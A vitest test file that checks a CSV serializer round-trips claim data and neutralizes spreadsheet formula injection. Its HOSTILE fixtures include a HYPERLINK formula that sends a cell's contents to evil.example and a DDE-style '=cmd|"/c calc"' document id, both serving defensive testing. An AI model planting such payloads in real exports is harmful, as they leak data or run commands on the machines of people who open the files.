import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, neutralize, unneutralize } from '../../src/format/csv.js';
import { serialize } from '../../src/serialize.js';
import type { Claim, ClaimsDocument } from '../../src/types.js';
import { documentsFromCsv, parseCsv } from './csv-roundtrip.js';

/** What a spreadsheet would run as a formula (OWASP's list). */
const RUNS = /^[=+\-@\t\r]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1, "click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=1+1", "'quoted'",
  'a "quoted" word, and a comma', 'two\nlines', 'crlf\r\nline', 'trailing\r',
  'وزير المالية قال', 'שלום\u202eevil', 'emoji 🤖👩🏽‍💻 here',
  '', ' =spaced', '\u0000nul', 'plain',
];

function claim(i: number, s: string): Claim {
  return { id: `c${i}`, actor: s, action: s, date: i % 2 ? null : s, source: i % 3 ? s : null, kind: 'quote', sentence: i, span: [i, i + 1], text: s };
}

describe('csv', () => {
  it('hostile text in every field reads back exactly, and no cell can run as a formula', () => {
    const docs: ClaimsDocument[] = [
      { id: '=cmd|"/c calc"!A1.txt', language: 'en', published: '2024-12-02', title: '-title', claims: HOSTILE.map((s, i) => claim(i, s)) },
      { id: 'empty.txt', language: 'und', published: null, title: null, claims: [] },
      { id: '@three.txt', language: 'id', published: null, title: '+', claims: [claim(99, 'Menurut laporan, harga naik 5%')] },
    ];
    const text = serialize(docs, 'csv');
    expect(documentsFromCsv(text)).toEqual(docs);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(HOSTILE.length + 2);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(RUNS);
  });

  it('RFC 4180: BOM, header row, CRLF row ends, quotes doubled inside quoted fields', () => {
    const text = serialize([{ id: 'a.txt', language: 'en', published: null, title: null, claims: [claim(0, 'say "hi", then go')] }], 'csv');
    expect(text.startsWith('\ufeff' + CSV_COLUMNS.join(',') + '\r\n')).toBe(true);
    expect(text).toContain(',"say ""hi"", then go",');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(3);
  });

  it('a document without claims keeps one row with empty claim columns', () => {
    const [row] = parseCsv(serialize([{ id: 'none.txt', language: 'en', published: '2024-01-05', title: 'Heading', claims: [] }], 'csv'));
    expect(row).toMatchObject({ document_id: 'none.txt', language: 'en', published: '2024-01-05', title: 'Heading', claim_id: '', actor: '', text: '' });
  });

  it('neutralize is reversible and leaves other text alone', () => {
    for (const s of HOSTILE) expect(unneutralize(neutralize(s))).toBe(s);
    expect(neutralize('plain = text')).toBe('plain = text');
    expect(neutralize('=1')).toBe("'=1");
  });

  it('refuses documents that are not claims documents', () => {
    expect(() => serialize([{ id: 'x', language: 'en', confidence: 1 }], 'csv')).toThrow(/extract/);
  });
});
